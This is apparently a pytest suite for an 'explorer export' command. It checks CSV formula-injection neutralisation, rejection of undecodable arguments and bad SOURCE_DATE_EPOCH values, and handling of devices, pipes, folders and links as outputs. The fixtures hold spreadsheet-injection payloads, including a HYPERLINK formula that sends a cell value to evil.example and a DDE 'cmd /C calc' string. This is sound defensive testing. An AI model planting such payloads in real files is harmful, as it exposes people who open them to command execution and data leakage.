"""`explorer export` against hostile data, arguments, environments and outputs.

Every case runs the real command in a process of its own, on real files and devices: a store
whose texts are spreadsheet formulas, argument bytes that are not UTF-8, garbage in
SOURCE_DATE_EPOCH, outputs that are devices, pipes, folders or full. Each ends in one line on
standard error and exit status 2 (or a clean file), never a traceback, an abort or a hang.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from explorer.cli import main
from explorer.commands.filter_args import FilterArgsError, checked_text
from explorer.domain.dates import Basis, Precision
from explorer.domain.measures import Phase
from explorer.domain.model import Kind, Status
from explorer.export.api import ExportOptionError, exported_at
from explorer.export.tables import (
    CSV_COLUMNS,
    FORMULA_TRIGGERS,
    STORE_TEXT_COLUMNS,
    event_cells,
)
from tests.export.sample_events import sample_events

REPO = Path(__file__).resolve().parents[2]
DEV_FULL = Path("/dev/full")
needs_dev_full = pytest.mark.skipif(
    not DEV_FULL.exists(), reason="/dev/full (a device that is always full) is Linux's"
)


def explorer(
    *args: str | bytes,
    env: dict[str, str] | None = None,
    stdout: int | io.BufferedWriter | None = subprocess.PIPE,
    shell_suffix: str = "",
) -> subprocess.CompletedProcess[bytes]:
    """Run `python -m explorer ARGS` (bytes arguments reach it as they are) and wait."""
    full_env = {**os.environ, "PYTHONPATH": str(REPO), **(env or {})}
    command: Sequence[str | bytes] = [sys.executable, "-m", "explorer", *args]
    if shell_suffix:  # e.g. ">&-": the shell sets up standard output, then runs the command
        command = ["sh", "-c", f'exec "$@" {shell_suffix}', "sh", *command]
    return subprocess.run(
        command, env=full_env, stdout=stdout, stderr=subprocess.PIPE, timeout=120, check=False
    )


def one_line(proc: subprocess.CompletedProcess[bytes], status: int = 2) -> str:
    """The one line the command wrote on standard error, after checking it ended with `status`."""
    err = proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == status, err
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("explorer"), err
    return lines[0]


# --------------------------------------------------------------------------- (a) CSV injection

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_store(mini_store_copy: Path) -> Path:
    """The mini store with a spreadsheet formula at the start of every text a store holds."""
    conn = sqlite3.connect(mini_store_copy)
    with conn:
        conn.execute("UPDATE events SET title = ? WHERE id = 1", (HOSTILE_TITLE,))
        conn.execute("UPDATE events SET title = ?, summary = '-2+3' WHERE id = 2", (DDE,))
        conn.execute("UPDATE events SET title = '@SUM(1+1)', topic = '\tsum' WHERE id = 3")
        conn.execute("UPDATE events SET title = '\rcr', date_note = '=1+1' WHERE id = 4")
        conn.execute("UPDATE events SET key = '-key' WHERE id = 5")
        conn.execute("UPDATE actors SET name = '=' || name, role = '@' || coalesce(role, '')")
        conn.execute("UPDATE countries SET name = '+' || name")
        conn.execute("UPDATE items SET name = '-' || name")
        conn.execute("UPDATE sources SET title = '=' || title, url = '@' || url")
        conn.execute("UPDATE quotes SET text = '=evil()' WHERE id = 1")
    conn.close()
    return mini_store_copy


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
    hostile_store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "hostile.csv"
    proc = explorer("export", "--db", str(hostile_store), "--no-user-store", "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    data = out.read_bytes()
    rows = read_csv(data)
    header, body = rows[0], rows[1:]
    assert len(body) == 6
    for row in body:
        for column, cell in zip(header, row, strict=True):
            assert cell[:1] not in FORMULA_TRIGGERS, (column, cell)
    # The rows in date order, as the store's ids 1 to 6 are.
    by_id = {str(n): dict(zip(header, row, strict=True)) for n, row in enumerate(body, 1)}
    # Exactly one quote before the text, which is otherwise kept as it was.
    assert by_id["1"]["title"] == "'" + HOSTILE_TITLE
    assert by_id["2"]["title"] == "'" + DDE and by_id["2"]["summary"] == "'-2+3"
    assert by_id["3"]["title"] == "'@SUM(1+1)" and by_id["3"]["topic"] == "'\tsum"
    assert by_id["4"]["title"] == "'\rcr" and by_id["4"]["date_note"] == "'=1+1"
    assert by_id["5"]["key"] == "'-key"
    assert any(r["agencies"].startswith("'=") for r in by_id.values())
    assert any(r["countries"].startswith("'+") for r in by_id.values())
    assert any(r["items"].startswith("'-") for r in by_id.values())
    assert any(r["sources"].startswith("'=") for r in by_id.values())
    assert any(r["source_urls"].startswith("'@") for r in by_id.values())
    # The quotes column starts with its own quotation mark: formulas inside stay as they are.
    assert any(r["quotes"].startswith("“=evil()”") for r in by_id.values())
    # The bytes: RFC 4180 quoting of the neutralised cell, CRLF rows, the BOM.
    assert data.startswith(b"\xef\xbb\xbf")
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",' in data
    assert b",'-key," in data


def test_csv_text_that_only_contains_formula_characters_is_unchanged(
    mini_store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "mini.csv"
    assert main(["export", "--db", str(mini_store), "--no-user-store", "-o", str(out)]) == 0
    rows = read_csv(out.read_bytes())
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    keys = [r["key"] for r in body]
    assert "us-2023-sanctions-on-chinese-companies" in keys  # '-' inside: nothing added
    notes = [r["date_note"] for r in body]
    assert "'Since last year' in a 2024 article: from 2023" in notes  # a quote, not a trigger
    assert all(not cell.startswith("''") for r in body for cell in r.values())


# --------------------------------------------------------------------------- (b) arguments


@pytest.mark.parametrize(
    "args, flag, fmt",
    [
        ([b"--search", b"\xff"], "--search", "json"),
        ([b"--search", b"caf\xe9"], "--search", "csv"),  # Latin-1, not UTF-8
        ([b"--search", b"\xed\xa0\x80"], "--search", "json"),  # an encoded lone surrogate
        ([b"--title", b"\xff"], "--title", "md"),
        ([b"--title", b"\xff"], "--title", "pdf"),
        ([b"--view", b"\xff"], "--view", "json"),
        ([b"--country", b"CN", b"--country", b"x\n\xff"], "--country", "json"),
    ],
)
def test_undecodable_argument_bytes_are_one_line(
    mini_store: Path, tmp_path: Path, args: list[bytes], flag: str, fmt: str
) -> None:
    out = tmp_path / f"out.{fmt}"
    proc = explorer(
        "export", "--db", str(mini_store), "--no-user-store", "-o", str(out), *args,
        env={"LC_ALL": "C.UTF-8"},
    )  # fmt: skip
    line = one_line(proc)
    assert line.startswith(f"explorer: {flag}: ") and "is not UTF-8 text" in line, line
    assert "the byte 0x" in line
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_a_lone_surrogate_given_in_process_is_refused_by_name() -> None:
    with pytest.raises(FilterArgsError, match=r"--search: 'a\\ud800' is not UTF-8 text \(U\+D800"):
        checked_text("--search", "a\ud800")
    assert checked_text("--search", "ファン") == "ファン"


def test_an_output_name_that_is_not_utf8_is_still_a_file_name(
    mini_store: Path, tmp_path: Path
) -> None:
    name = os.fsencode(tmp_path) + b"/caf\xe9.json"
    proc = explorer("export", "--db", str(mini_store), "--no-user-store", "-o", name)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(Path(os.fsdecode(name)).read_bytes())["events"]


@pytest.mark.parametrize(
    "value",
    ["abc", "-1", str(10**30), "nan", "NaN", "inf", "1.5", "1e9", " 12 ", "0x10", "١٢٣",
     "1_000", "253402300800", "9" * 5000],
)  # fmt: skip
def test_source_date_epoch_garbage_is_refused(value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", value)
    with pytest.raises(ExportOptionError) as info:
        exported_at()
    message = str(info.value)
    assert message.startswith("SOURCE_DATE_EPOCH=") and "\n" not in message
    assert len(message) < 200


@pytest.mark.parametrize(
    "value, when",
    [
        ("0", "1970-01-01T00:00:00Z"),
        ("1767225600", "2026-01-01T00:00:00Z"),
        ("0001767225600", "2026-01-01T00:00:00Z"),
        ("253402300799", "9999-12-31T23:59:59Z"),
    ],
)
def test_source_date_epoch_digits_are_read(
    value: str, when: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", value)
    assert exported_at() == when


@pytest.mark.parametrize("value", ["not-a-number", "-1", str(10**30), "NaN"])
def test_source_date_epoch_garbage_is_one_line_in_a_real_process(
    mini_store: Path, tmp_path: Path, value: str
) -> None:
    out = tmp_path / "out.png"
    proc = explorer(
        "export", "--db", str(mini_store), "--no-user-store", "-o", str(out),
        env={"SOURCE_DATE_EPOCH": value},
    )  # fmt: skip
    line = one_line(proc)
    assert line.startswith(f"explorer: SOURCE_DATE_EPOCH={value!r} ")
    assert not out.exists()


# --------------------------------------------------------------------------- (b) outputs


@needs_dev_full
@pytest.mark.parametrize("fmt", ["json", "csv", "md", "png"])
def test_standard_output_on_a_full_device_is_one_line(mini_store: Path, fmt: str) -> None:
    with DEV_FULL.open("wb") as full:
        proc = explorer(
            "export", "--db", str(mini_store), "--no-user-store", "-o", "-", "--format", fmt,
            stdout=full,
        )  # fmt: skip
    line = one_line(proc)
    assert line == "explorer: standard output: cannot write the export: No space left on device"


@needs_dev_full
def test_a_written_file_whose_summary_meets_a_full_device_says_both(
    mini_store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.json"
    with DEV_FULL.open("wb") as full:
        proc = explorer(
            "export", "--db", str(mini_store), "--no-user-store", "-o", str(out), stdout=full
        )
    line = one_line(proc)
    assert f"{out} was written" in line and "No space left on device" in line
    assert json.loads(out.read_bytes())["events"]


def test_closed_standard_output_is_one_line(mini_store: Path) -> None:
    proc = explorer(
        "export", "--db", str(mini_store), "--no-user-store", "-o", "-", shell_suffix=">&-"
    )
    assert one_line(proc) == "explorer: standard output is closed; give a file with -o FILE"


def _char_devices() -> list[Path]:
    return [p for p in (DEV_FULL, Path("/dev/null")) if p.exists()]


@pytest.mark.skipif(not _char_devices(), reason="no /dev/full or /dev/null on this system")
@pytest.mark.parametrize("device", _char_devices(), ids=str)
def test_output_naming_a_character_device_is_refused(mini_store: Path, device: Path) -> None:
    before = device.stat()
    proc = explorer(
        "export", "--db", str(mini_store), "--no-user-store", "-o", str(device),
        "--format", "json",
    )  # fmt: skip
    line = one_line(proc)
    assert line.startswith(f"explorer: {device}") and "not a regular file" in line, line
    after = device.stat()
    assert (after.st_mode, after.st_rdev, after.st_ino) == (
        before.st_mode,
        before.st_rdev,
        before.st_ino,
    )


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes (mkfifo) are POSIX's")
def test_output_naming_a_fifo_is_refused_without_waiting_for_a_reader(
    mini_store: Path, tmp_path: Path
) -> None:
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    proc = explorer("export", "--db", str(mini_store), "--no-user-store", "-o", str(fifo))
    assert "not a regular file" in one_line(proc)  # a hang would time the run out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe.json"]


def test_output_naming_a_folder_is_refused(mini_store: Path, tmp_path: Path) -> None:
    folder = tmp_path / "out.json"
    folder.mkdir()
    proc = explorer("export", "--db", str(mini_store), "--no-user-store", "-o", str(folder))
    line = one_line(proc)
    assert line.startswith(f"explorer: {folder}") and "is a folder" in line, line
    assert list(folder.iterdir()) == []


def test_an_empty_output_name_is_refused(mini_store: Path, capsys) -> None:
    assert main(["export", "--db", str(mini_store), "-o", ""]) == 2
    err = capsys.readouterr().err
    assert err == "explorer export: -o: give a file name, or - for standard output\n"


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="symbolic links are needed")
def test_an_output_link_is_written_through_and_kept(mini_store: Path, tmp_path: Path) -> None:
    real = tmp_path / "real.json"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.json"
    link.symlink_to(real.name)
    assert main(["export", "--db", str(mini_store), "--no-user-store", "-o", str(link)]) == 0
    assert link.is_symlink() and os.readlink(link) == real.name
    assert json.loads(real.read_bytes())["events"]
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "new.csv")
    assert main(["export", "--db", str(mini_store), "--no-user-store", "-o", str(dangling)]) == 0
    assert dangling.is_symlink() and (tmp_path / "new.csv").read_bytes().startswith(b"\xef")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "dangling.csv",
        "link.json",
        "new.csv",
        "real.json",
    ]


@needs_dev_full
def test_a_link_to_a_device_is_refused_and_kept(mini_store: Path, tmp_path: Path) -> None:
    link = tmp_path / "full.json"
    link.symlink_to(DEV_FULL)
    proc = explorer("export", "--db", str(mini_store), "--no-user-store", "-o", str(link))
    assert "not a regular file" in one_line(proc)
    assert link.is_symlink() and os.readlink(link) == str(DEV_FULL)


def test_every_formula_character_is_neutralised_and_nothing_else() -> None:
    event = sample_events()[0]
    for first in sorted(FORMULA_TRIGGERS):
        cells = event_cells(replace(event, title=f"{first}1+1", summary=f"x{first}1"))
        title, summary = cells[CSV_COLUMNS.index("title")], cells[CSV_COLUMNS.index("summary")]
        assert title == f"'{first}1+1" and summary == f"x{first}1"
    for safe in ("'quoted", "“curly”", "1-2", " =space first", "＝full width", ""):
        cells = event_cells(replace(event, title=safe))
        assert cells[CSV_COLUMNS.index("title")] == safe


def test_the_columns_not_checked_start_with_our_own_words() -> None:
    """The cells left unchecked start with digits, dates, our vocabularies or a quote mark."""
    ours = set(CSV_COLUMNS) - set(STORE_TEXT_COLUMNS)
    assert ours == {
        "id",
        "date",
        "start",
        "end",
        "precision",
        "basis",
        "kind",
        "status",
        "quotes",
        "phase",
    }
    words = [k.label for k in Kind] + [s.label for s in Status] + [p.label for p in Phase]
    words += [p.value for p in Precision] + [b.value for b in Basis]
    assert all(w[:1] not in FORMULA_TRIGGERS for w in words), words
    for event in sample_events():
        cells = dict(zip(CSV_COLUMNS, event_cells(event), strict=True))
        for column in ours:
            assert cells[column][:1] not in FORMULA_TRIGGERS, (column, cells[column])
        assert cells["quotes"].startswith("“") or not event.quotes


def test_a_measure_title_is_never_run_as_a_formula() -> None:
    from explorer.domain.measures import Measure, MeasureKind

    event = sample_events()[0]
    measure = Measure("m", "=HYPERLINK(1)", MeasureKind.RULE)
    cells = dict(
        zip(
            CSV_COLUMNS,
            event_cells(replace(event, measure=measure, phase=Phase.IN_FORCE)),
            strict=True,
        )
    )
    assert cells["measure"] == "'=HYPERLINK(1)" and cells["phase"] == "In force"
